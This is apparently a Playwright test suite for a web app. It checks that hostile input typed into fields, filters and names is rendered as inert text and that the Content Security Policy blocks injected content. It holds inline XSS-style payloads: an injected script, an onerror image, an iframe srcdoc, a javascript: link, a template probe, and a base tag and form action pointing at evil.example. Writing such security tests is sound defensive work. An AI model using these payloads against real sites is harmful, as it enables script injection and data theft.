"""Texts that try to be more than text, typed into every field and shown on every page."""

from urllib.parse import quote, urlencode

import pytest
from playwright.sync_api import expect

from tests.browser.deeds import Facts
from tests.browser.hostile import CATALOGUE, NAUGHTY
from tests.browser.reviewing import PAGES, Reviewer, unfold

pytestmark = pytest.mark.browser

NOTHING_RAN = """() => window.hacked === undefined && ({}).hacked === undefined
    && document.querySelectorAll('script').length === 1
    && document.querySelectorAll('main img, main iframe, main style, main base, main object, main svg[onload]').length === 0
    && !document.querySelector('[onerror], [onload], [onfocus], [onclick], [style], a[href^="javascript"]')"""  # noqa: E501
"""What holds of a page on which every text is only text."""


def expect_harmless(reviewer: Reviewer) -> None:
    """Check that nothing on the page that is open was made or run by a text."""
    assert reviewer.page.evaluate(NOTHING_RAN), reviewer.page.url
    assert reviewer.page.url.startswith(reviewer.address)


def hostile_point(found) -> str:
    """Return the touchpoint that the catalogue names badly."""
    name = CATALOGUE[0]["name"]
    return next(k for k, p in found.lookup.touchpoints.items() if p.name == name)


def test_there_are_many():
    assert len(set(NAUGHTY)) >= 30


def test_pages_show_names_and_quotes_as_text(found, ana):
    key = hostile_point(found)
    chosen = next(
        m.mention_id for m in found.lookup.mentions_at[key] if m.quote.find("<style>") >= 0
    )
    for path in (*PAGES, f"/touchpoints?t={key}", f"/touchpoints/{key}", f"/quotes/{chosen}"):
        ana.go(path)
        expect_harmless(ana)
    page = ana.go(f"/touchpoints/{key}")
    expect(page.locator("h1")).to_have_text(CATALOGUE[0]["name"])
    expect(page.locator(".factlist")).to_contain_text(CATALOGUE[0]["owner"])
    assert "{{ 7 * 7 }}" in page.locator("main").inner_text()
    expect(ana.go(f"/quotes/{chosen}").locator("h1")).to_contain_text("<style>*{display:none")


def test_quotes_of_customers_are_shown_letter_by_letter(found, ana):
    key = hostile_point(found)
    texts = {m.quote for m in found.lookup.mentions_at[key]}
    page = ana.go(f"/touchpoints/{key}")
    shown = page.locator("#quotes blockquote").all_text_contents()
    assert len(shown) > 20
    assert {text.strip().removeprefix("“").removesuffix("”") for text in shown} <= texts
    expect_harmless(ana)


def every_field(reviewer: Reviewer, text: str) -> int:
    """Type a text into every field of the page that takes any; return how many there are."""
    return reviewer.page.evaluate(
        """text => { let n = 0;
        for (const field of document.querySelectorAll('main textarea, main input:not([type])'
            + ', main input[type=text], main input[type=search]')) {
            const longest = field.maxLength > 0 ? field.maxLength : 9999;
            field.value = [...text].slice(0, longest).join(''); n += 1; }
        return n; }""",
        text,
    )


FORMS = ("rename", "redefine", "own", "score", "rename", "effort", "mark", "move", "rename", "link")
"""Forms of a touchpoint's page, one after another: each text goes into all fields, and is sent in
the next form."""


@pytest.mark.parametrize("n", range(0, len(NAUGHTY), len(FORMS)))
def test_every_field_of_a_touchpoint_takes_any_text(found, room, ana, n):
    key = Facts(found).demo
    fitting = {"value": "0.5", "effort": "2", "stage": "Renewal"}
    page = ana.go(f"/touchpoints/{key}")
    for action, text in zip(FORMS, NAUGHTY[n:], strict=False):
        assert every_field(ana, text) > 10
        form = ana.about(action, key)
        for name in fitting.keys() & set(_names(form)):
            ana.fill(form, **{name: fitting[name]})
        for select in form.locator("select[required]").all():
            unfold(select)
            select.select_option(index=1)
        ana.send(form)
        row = room.last()
        assert (row["action"], row["reason"]) == (action, " ".join(text.split()))
        assert row["argument"].get("name", text[:80].strip()) == text[:80].strip()
        expect_harmless(ana)
        if action == "rename":
            assert page.locator("h1").text_content() == text[:80].strip()
    for path in ("/", "/touchpoints", "/decisions", "/glossary", "/teams", "/agreement"):
        ana.go(path)
        expect_harmless(ana)


def _names(form) -> list[str]:
    return form.locator("[name]").evaluate_all("all => all.map(field => field.name)")


@pytest.mark.parametrize("text", [NAUGHTY[n] for n in (1, 4, 15, 24)])
def test_hypotheses_splits_and_additions_take_any_text(found, room, ana, text):
    facts = Facts(found)
    edit = ana.go(f"/touchpoints/{facts.export}") and ana.about("edit_hypothesis", facts.bets[0])
    every_field(ana, text)
    ana.send(edit)
    assert room.last()["argument"]["resources"] == text.strip()
    expect_harmless(ana)

    page = ana.go(f"/touchpoints/{facts.chat}")
    page.locator('#quoted [name="quotes"]').first.check()
    every_field(ana, text)
    ana.send(page.locator("#quoted"), "split")
    assert room.last()["action"] == "split"
    expect_harmless(ana)

    ana.go("/touchpoints")
    every_field(ana, f"2 {text}")
    ana.send(ana.form("add"))
    name = f"2 {text}"[:80].strip()
    assert room.last()["argument"]["name"] == name
    expect_harmless(ana)
    expect(ana.page.locator("h1")).to_have_text(" ".join(name.split()))


def test_what_is_looked_for_is_only_text(ana):
    page = ana.go("/search")
    for text in NAUGHTY[::3]:
        page.locator("input[type=search]").fill(text)
        with page.expect_navigation():
            page.keyboard.press("Enter")
        expect(page.locator("input[type=search]")).to_have_value(text)
        expect_harmless(ana)


FILTERS = ("words", "stage", "segment", "source", "since", "customer", "t", "sort", "page", "who")


@pytest.mark.parametrize("text", [NAUGHTY[n] for n in (0, 4, 19, 35)])
def test_filters_take_any_text(found, ana, text):
    key = Facts(found).export
    for path in ("/touchpoints", f"/touchpoints/{key}", "/search", "/decisions", "/"):
        ana.go(f"{path}?{urlencode(dict.fromkeys(FILTERS, text))}")
        expect_harmless(ana)
        for name in FILTERS:
            answer = ana.context.request.get(f"{ana.address}{path}?{name}={quote(text)}")
            assert answer.status == 200, answer.url


@pytest.mark.parametrize("text", [NAUGHTY[n] for n in (4, 11, 25, 29)])
def test_a_reviewer_may_be_called_anything(room, sit, text):
    own = sit(room, name=" ")
    page = own.go("/name")
    page.locator('[name="name"]').fill(text)
    with page.expect_navigation():
        page.locator('main button[type="submit"]').click()
    expect_harmless(own)
    own.send(own.go("/").locator(".item form:has([value='accept'])").first)
    assert room.last()["who"]
    for path in ("/", "/decisions", "/agreement", "/name"):
        own.go(path)
        expect_harmless(own)


def test_a_fault_shows_what_was_typed_as_text(found, room, ana):
    key = Facts(found).demo
    ana.expected = ("422",)
    for text in NAUGHTY[:16:3]:
        ana.go(f"/touchpoints/{key}")
        form = ana.about("score", key)
        form.locator('[name="value"]').evaluate("field => { field.type = 'text'; }")
        ana.send(ana.fill(form, value=text, reason=text))
        expect_harmless(ana)
    assert room.rows() == []


def test_the_policy_stops_what_a_page_might_be_made_to_hold(room, ana):
    ana.expected = ("Content Security Policy", "Content-Security-Policy", "evil.example")
    page = ana.go("/")
    policy = page.request.get(room.address).headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    page.evaluate(
        """() => {
        const add = (name, set) => {
            const made = document.createElement(name); set(made); document.body.append(made); };
        add('script', made => { made.textContent = 'window.hacked = 1'; });
        add('script', made => { made.src = 'http://evil.example/x.js'; });
        add('img', made => { made.setAttribute('onerror', 'window.hacked = 2'); made.src = 'data:,x'; });
        add('iframe', made => { made.srcdoc = '<script>parent.hacked = 3</' + 'script>'; });
        add('style', made => { made.textContent = 'main { display: none }'; });
        add('base', made => { made.href = 'http://evil.example/'; });
        add('link', made => { made.rel = 'stylesheet'; made.href = 'http://evil.example/x.css'; });
        add('a', made => { made.href = 'javascript:window.hacked=4'; made.id = 'bad'; made.click(); });
        }"""  # noqa: E501
    )
    page.wait_for_timeout(300)
    assert page.evaluate("window.hacked") is None
    expect(page.locator("main")).to_be_visible()
    assert page.evaluate("document.baseURI").startswith(room.address)


def test_no_form_leads_to_another_site(ana):
    ana.expected = ("Content Security Policy", "Content-Security-Policy", "evil.example")
    page = ana.go("/")
    page.evaluate(
        """() => { const form = document.querySelector('.item form');
        form.action = 'http://evil.example/'; form.submit(); }"""
    )
    page.wait_for_timeout(300)
    assert page.url.startswith(ana.address)
